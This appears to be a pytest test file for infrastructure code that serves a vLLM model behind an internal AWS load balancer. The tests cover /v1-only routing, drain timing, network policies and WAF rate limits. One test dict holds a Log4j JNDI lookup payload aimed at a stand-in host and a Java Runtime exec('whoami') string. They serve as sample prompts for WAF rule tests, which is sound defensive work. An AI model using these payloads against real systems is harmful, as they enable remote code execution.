"""Exposure inside the VPC: Auto Mode's internal load balancer, /v1 only, and the AWS WAF web ACL's rate limits."""

from __future__ import annotations

import copy
import dataclasses
import functools
import json
from typing import Any

import aws_cdk as cdk
import cdk8s
import pytest
import yaml
from aws_cdk.assertions import Template

from app import project_app
from charts import NETWORK_POLICY_CONTROLLER, DeployedResources, build_charts
from charts.exposure import deregistration_delay_seconds
from settings import STAGES_DIR, parse_stage_settings
from settings.drain import LOAD_BALANCER_DEREGISTRATION_SECONDS, SHUTDOWN_SECONDS, max_request_seconds
from settings.schema import StageSettings
from stacks.smoke_test_project import smoke_test_args, smoke_test_timeout
from stacks.web_acl import rate_limited_web_acl
from tests.conftest import charts_of, find, gpu_pool_objects, keyed_prod_data, model_objects, stage_data
from tests.scanners import cloudformation_problems, kubernetes_problems
from tests.test_settings import rejected

CERTIFICATE = "arn:aws:acm:us-west-2:123456789012:certificate/0a1b2c3d-0000-4000-8000-000000000000"
HOSTNAME = "llm.internal.example.com"
WEB_ACL_TYPE = "AWS::WAFv2::WebACL"
WEB_ACL = "arn:aws:wafv2:us-west-2:123456789012:regional/webacl/gptoss20bWebAcl/0a1b2c3d"


def exposed(**exposure: Any) -> dict[str, Any]:
    """prod's settings, keyed per model rather than behind the gateway, with its model behind an internal load
    balancer."""
    data = keyed_prod_data()
    data["models"][0]["exposure"] = {"hostname": HOSTNAME, "certificate_arn": CERTIFICATE, **exposure}
    return data


def exposed_settings(**exposure: Any) -> StageSettings:
    return parse_stage_settings("prod", exposed(**exposure))


@functools.cache
def exposed_charts() -> dict[str, Any]:
    """prod's charts with its model exposed, built once: by chart id."""
    settings = exposed_settings()
    deployed = dataclasses.replace(DeployedResources.placeholders(settings), web_acl_arns={"gpt-oss-20b": WEB_ACL})
    return build_charts(cdk8s.App(), settings, deployed)


def exposed_objects() -> list[dict[str, Any]]:
    return model_objects(exposed_charts(), "gpt-oss-20b")


def test_an_internal_https_load_balancer_routes_only_v1_to_the_service() -> None:
    objects = exposed_objects()
    params = find(objects, "IngressClassParams")
    assert params["apiVersion"] == "eks.amazonaws.com/v1"
    assert params["metadata"] == {"name": "gpt-oss-20b"}  # cluster-scoped
    assert params["spec"] == {
        "scheme": "internal",
        "certificateARNs": [CERTIFICATE],
        "subnets": {"ids": [f"<inbound subnet in us-west-2{zone}>" for zone in "abc"]},
        # The longest request gpt-oss-20b allows: 20000 tokens at 20 tokens/s.
        "loadBalancerAttributes": [{"key": "idle_timeout.timeout_seconds", "value": "1000"}],
    }
    ingress_class = find(objects, "IngressClass")
    assert ingress_class["metadata"] == {"name": "gpt-oss-20b"}
    assert ingress_class["spec"] == {
        "controller": "eks.amazonaws.com/alb",
        "parameters": {"apiGroup": "eks.amazonaws.com", "kind": "IngressClassParams", "name": "gpt-oss-20b"},
    }
    ingress = find(objects, "Ingress")
    assert ingress["metadata"]["namespace"] == "gpt-oss-20b"
    annotations = ingress["metadata"]["annotations"]
    assert json.loads(annotations["alb.ingress.kubernetes.io/listen-ports"]) == [{"HTTPS": 443}]
    assert annotations["alb.ingress.kubernetes.io/wafv2-acl-arn"] == WEB_ACL
    assert annotations["alb.ingress.kubernetes.io/healthcheck-path"] == "/health"
    (rule,) = ingress["spec"]["rules"]
    (path,) = rule["http"]["paths"]
    assert path == {
        "path": "/v1",
        "pathType": "Prefix",
        "backend": {"service": {"name": "gptoss-service", "port": {"number": 8000}}},
    }
    assert ingress["spec"]["ingressClassName"] == ingress_class["metadata"]["name"]
    for obj in (ingress, ingress_class):
        assert kubernetes_problems(obj, "1.36") == []


def test_a_replica_leaving_the_load_balancer_drains_before_sigterm_and_before_the_target_is_dropped() -> None:
    # No pod readiness gates on Auto Mode: the preStop keeps vLLM serving until the load balancer has deregistered
    # the replica, then until its requests end; the target group keeps a draining target as long as the longest
    # request; the grace period covers both and vLLM's stop.
    settings = exposed_settings()
    model = settings.models[0]
    deployment = find(exposed_objects(), "Deployment")["spec"]["template"]["spec"]
    pre_stop = deployment["containers"][0]["lifecycle"]["preStop"]["exec"]["command"]
    assert pre_stop[0] == "sleep"  # vLLM then drains by itself, for --shutdown-timeout (charts/pre_stop_drain.py)
    wait = int(pre_stop[1])
    assert wait == LOAD_BALANCER_DEREGISTRATION_SECONDS == 120
    annotations = find(exposed_objects(), "Ingress")["metadata"]["annotations"]
    attributes = annotations["alb.ingress.kubernetes.io/target-group-attributes"]
    delay = int(attributes.removeprefix("deregistration_delay.timeout_seconds="))
    assert delay == max_request_seconds(model) == 1000  # not ELB's default 300, which would cut long requests
    assert deployment["terminationGracePeriodSeconds"] >= wait + max_request_seconds(model) + SHUTDOWN_SECONDS
    # A model that no load balancer fronts waits only for the proxies.
    unexposed = find(charts_of(keyed_prod_data())["Model-gpt-oss-20b"], "Deployment")["spec"]["template"]["spec"]
    assert unexposed["containers"][0]["lifecycle"]["preStop"]["exec"]["command"] == ["sleep", "10"]


def test_the_deregistration_delay_stays_within_elbs_limit() -> None:
    model = exposed_settings(**{}).models[0].model_copy(update={"max_request_seconds": 5000})
    assert deregistration_delay_seconds(max_request_seconds(model)) == 3600


def prefix_matches(prefix: str, path: str) -> bool:
    """Kubernetes' Prefix match: element by element on '/' (networking.k8s.io/v1 HTTPIngressPath)."""
    wanted = [element for element in prefix.split("/") if element]
    return [element for element in path.split("/") if element][: len(wanted)] == wanted


@pytest.mark.parametrize(
    ("path", "routed"),
    [
        ("/v1/chat/completions", True),
        ("/v1/models", True),
        ("/metrics", False),
        ("/health", False),
        ("/tokenize", False),
        ("/invocations", False),  # vLLM's SageMaker route runs inference without the /v1 key check
        ("/v10/x", False),
    ],
)
def test_only_v1_reaches_vllm_through_the_load_balancer(path: str, routed: bool) -> None:
    (rule,) = find(exposed_objects(), "Ingress")["spec"]["rules"]
    assert any(prefix_matches(p["path"], path) for p in rule["http"]["paths"]) is routed


def test_a_model_not_exposed_has_no_ingress() -> None:
    objects = model_objects(charts_of(keyed_prod_data()), "gpt-oss-20b")
    assert not [obj for obj in objects if obj["kind"] in ("Ingress", "IngressClass", "IngressClassParams")]


# Limits other than the defaults, so the test can tell they are the settings'.
LIMITS = {"rate_limit_per_key": 600, "rate_limit_total": 6000}


@functools.cache
def web_acl(**exposure: Any) -> dict[str, Any]:
    """The properties of the model's web ACL, synthesized by the real construct in a stack of its own."""
    app = project_app()
    stack = cdk.Stack(app, "WebAcl", env=cdk.Environment(region="us-west-2"))
    rate_limited_web_acl(stack, exposed_settings(**exposure).models[0])
    (acl,) = [r for r in Template.from_stack(stack).to_json()["Resources"].values() if r["Type"] == WEB_ACL_TYPE]
    return acl["Properties"]


def test_the_web_acl_limits_each_key_and_all_requests_and_cloudformation_accepts_it() -> None:
    acl = web_acl(**LIMITS)
    assert cloudformation_problems(WEB_ACL_TYPE, acl) == []
    assert acl["Scope"] == "REGIONAL"
    assert acl["DefaultAction"] == {"Allow": {}}
    rules = {rule["Name"]: rule for rule in acl["Rules"]}
    per_key = rules["rate-per-api-key"]["Statement"]["RateBasedStatement"]
    assert per_key["Limit"] == 600
    assert per_key["AggregateKeyType"] == "CUSTOM_KEYS"
    assert per_key["CustomKeys"] == [
        {"Header": {"Name": "authorization", "TextTransformations": [{"Priority": 0, "Type": "NONE"}]}}
    ]
    total = rules["rate-total"]["Statement"]["RateBasedStatement"]
    assert (total["Limit"], total["AggregateKeyType"]) == (6000, "CONSTANT")
    assert "ScopeDownStatement" in total  # CONSTANT counts what the scope-down statement matches
    assert all(rules[name]["Action"] == {"Block": {}} for name in ("rate-per-api-key", "rate-total"))


def action_on_match(acl: dict[str, Any], group: str, rule: str) -> str:
    """The action AWS WAF takes when `rule` of a managed rule group matches: the group's rules block (AWS WAF
    Developer Guide, "Baseline rule groups") unless the web ACL overrides the rule's action."""
    (statement,) = [
        r["Statement"]["ManagedRuleGroupStatement"]
        for r in acl["Rules"]
        if r["Statement"].get("ManagedRuleGroupStatement", {}).get("Name") == group
    ]
    overrides = {o["Name"]: next(iter(o["ActionToUse"])) for o in statement.get("RuleActionOverrides", [])}
    return overrides.get(rule, "Block")


# A prompt that quotes the Log4j pattern the guide gives for Log4JRCE_BODY, and a Java one for
# JavaDeserializationRCE_BODY: the rules they match must not block the request.
PROMPTS_THAT_MATCH = {
    "Log4JRCE_BODY": "Why is ${jndi:ldap://example.com/} in my logs dangerous?",
    "JavaDeserializationRCE_BODY": 'Explain (java.lang.Runtime).getRuntime().exec("whoami")',
}


@pytest.mark.parametrize("rule", sorted(PROMPTS_THAT_MATCH))
def test_a_prompt_quoting_an_exploit_is_not_blocked_by_the_body_rules(rule: str) -> None:
    acl = web_acl(**LIMITS)
    assert action_on_match(acl, "AWSManagedRulesKnownBadInputsRuleSet", rule) == "Count"
    assert cloudformation_problems(WEB_ACL_TYPE, acl) == []


def test_known_bad_inputs_still_block_outside_the_body() -> None:
    acl = web_acl(**LIMITS)
    for rule in ("Log4JRCE_HEADER", "Log4JRCE_URIPATH", "JavaDeserializationRCE_HEADER", "Host_localhost_HEADER"):
        assert action_on_match(acl, "AWSManagedRulesKnownBadInputsRuleSet", rule) == "Block"


def test_the_cloudformation_schema_rejects_a_broken_web_acl() -> None:
    broken = copy.deepcopy(web_acl(**LIMITS))
    broken["Rules"][1]["Statement"]["RateBasedStatement"]["Limit"] = 5
    broken["Description"] = "the model's ACL"
    problems = cloudformation_problems(WEB_ACL_TYPE, broken)
    assert any("5 is less than the minimum of 10" in problem for problem in problems)
    assert any(problem.startswith("Description: ") for problem in problems)


@pytest.mark.parametrize("field", ["rate_limit_per_key", "rate_limit_total"])
def test_a_rate_limit_below_wafs_minimum_is_refused(field: str) -> None:
    assert f"models[0].exposure.{field}: Input should be greater than or equal to 10 (got 9)" in rejected(
        exposed(**{field: 9}), "prod"
    )


def test_exposure_without_an_api_key_secret_is_refused() -> None:
    data = exposed()
    del data["models"][0]["api_keys_secret"]
    assert "models[0]: exposure: a model behind a load balancer requires API keys: set api_keys_secret" in rejected(
        data, "prod"
    )


def test_a_certificate_in_another_region_is_refused() -> None:
    data = exposed()
    data["models"][0]["exposure"]["certificate_arn"] = CERTIFICATE.replace("us-west-2", "us-east-1")
    assert (
        "models[0].exposure.certificate_arn: the certificate is in us-east-1; a load balancer takes certificates "
        "of its own region, us-west-2"
    ) in rejected(data, "prod")


def test_a_malformed_certificate_arn_is_refused() -> None:
    data = exposed()
    data["models"][0]["exposure"]["certificate_arn"] = "my-certificate"
    assert "an ACM certificate ARN such as arn:aws:acm:us-west-2:123456789012:certificate/<uuid>" in rejected(
        data, "prod"
    )


@pytest.mark.parametrize("hostname", ["LLM.example.com", "llm", "https://llm.example.com", "-llm.example.com"])
def test_a_hostname_that_is_not_a_dns_name_is_refused(hostname: str) -> None:
    assert "models[0].exposure.hostname: " in rejected(exposed(hostname=hostname), "prod")
    assert "a DNS name in lower case such as llm.internal.example.com" in rejected(exposed(hostname=hostname), "prod")


def test_the_smoke_test_asks_through_the_load_balancer_by_its_name_with_a_key() -> None:
    settings = exposed_settings()
    args = smoke_test_args(settings, settings.models[0], import_job="import-gpt-oss-20b-0123abcd")
    assert args[-6:] == ["--api-key-secret", "gpt-oss-20b/api-keys", "--ingress", "gpt-oss-20b", "--hostname", HOSTNAME]
    # Its time includes waiting for Auto Mode to provision the load balancer.
    unexposed = parse_stage_settings("prod", keyed_prod_data())
    assert smoke_test_timeout(settings).to_seconds() == smoke_test_timeout(unexposed).to_seconds() + 900


def test_only_the_inbound_subnets_reach_the_replicas_port() -> None:
    objects = exposed_objects()
    policy = find(objects, "NetworkPolicy")
    pod_labels = find(objects, "Deployment")["spec"]["template"]["metadata"]["labels"]
    assert policy["spec"]["podSelector"]["matchLabels"].items() <= pod_labels.items()
    assert policy["spec"]["policyTypes"] == ["Ingress"]
    (rule,) = policy["spec"]["ingress"]
    assert rule["from"] == [{"ipBlock": {"cidr": f"<inbound subnet range in us-west-2{zone}>"}} for zone in "abc"]
    # vLLM's port, and the GPU reader's for the scraper (prod has metrics: charts/gpu_metrics.py).
    assert rule["ports"] == [{"protocol": "TCP", "port": 8000}, {"protocol": "TCP", "port": 9400}]
    assert kubernetes_problems(policy, "1.36") == []


def test_exposure_turns_on_network_policies_in_the_cluster_and_changes_no_node_class() -> None:
    charts = exposed_charts()
    for node_class in [
        o for o in gpu_pool_objects({key: chart.to_json() for key, chart in charts.items()}) if o["kind"] == "NodeClass"
    ]:
        assert node_class["spec"]["networkPolicy"] == "DefaultAllow"  # pods no policy selects stay open
    controller = charts[NETWORK_POLICY_CONTROLLER]
    assert controller.applies_over_existing  # the serving stack applies it, since it may exist already
    (config_map,) = controller.to_json()
    assert config_map["metadata"] == {"name": "amazon-vpc-cni", "namespace": "kube-system"}
    assert config_map["data"] == {"enable-network-policy-controller": "true"}
    plain = charts_of(keyed_prod_data())
    # The controller's ConfigMap in every stage: turned off, its deletion would delete Auto Mode's whole ConfigMap.
    assert plain[NETWORK_POLICY_CONTROLLER] == controller.to_json()
    # The NodeClasses are the same without exposure: turning it on replaces no GPU node.
    assert gpu_pool_objects(plain) == gpu_pool_objects({key: chart.to_json() for key, chart in charts.items()})


def test_the_web_acl_keeps_no_sample_of_requests() -> None:
    # A sampled request holds its headers, the API key among them.
    acl = web_acl(**LIMITS)
    assert acl["VisibilityConfig"]["SampledRequestsEnabled"] is False
    assert all(rule["VisibilityConfig"]["SampledRequestsEnabled"] is False for rule in acl["Rules"])


def test_the_gateway_endpoint_example_in_prod_yaml_is_valid_once_filled_in() -> None:
    lines = (STAGES_DIR / "prod.yaml").read_text().splitlines()
    start = lines.index("  # endpoint:")
    example = "\n".join(line.replace("  # ", "", 1) for line in lines[start : start + 3])
    filled = example.replace("<account>", "123456789012").replace("<id>", CERTIFICATE.rsplit("/", 1)[1])
    data = stage_data("prod")
    data["gateway"].update(yaml.safe_load(filled))
    gateway = parse_stage_settings("prod", data).gateway
    assert gateway is not None
    assert gateway.endpoint is not None
